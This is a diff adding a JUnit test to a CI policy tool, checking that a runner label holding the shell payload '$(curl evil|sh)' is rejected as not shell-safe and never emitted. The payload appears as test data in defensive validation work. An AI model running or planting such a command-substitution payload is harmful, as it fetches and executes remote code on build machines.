@@ -130,4 +130,23 @@ class PlanSuiteAndFileRunCommandTest {
   void fileRunNeedsExactlyOneTarget() {
     assertThat(run("file-run", "--policy", POLICY, "--registrations", REGISTRATIONS).code()).isEqualTo(2);
   }
+
+  @Test
+  void aShellCommandAsRunnerLabelIsRejectedAtLoadAndNeverEmitted() throws Exception {
+    String policy = Files.readString(CliTestSupport.REPO.resolve(POLICY))
+        .replace("runner_labels: [h200, 4gpu]", "runner_labels: [h200, 4gpu, \"$(curl evil|sh)\"]");
+    assertThat(policy).contains("$(curl evil|sh)");
+    Path file = tmp.resolve("evil.yaml");
+    Files.writeString(file, policy);
+    Path output = tmp.resolve("output");
+    Result r = run("file-run", "--policy", file.toString(), "--registrations", REGISTRATIONS, "--test-file",
+        "tests/e2e/test_lora.py", "--github-output", output.toString());
+    assertThat(r.code()).isEqualTo(1);
+    assertThat(r.out()).isEmpty();
+    assertThat(r.err()).startsWith("::error::Invalid CI policy: " + file + ":")
+        .contains("backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[2]: runner label '$(curl evil|sh)' is not"
+            + " shell-safe; expected 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63}")
+        .hasLineCount(1);
+    assertThat(output).doesNotExist();
+  }
 }
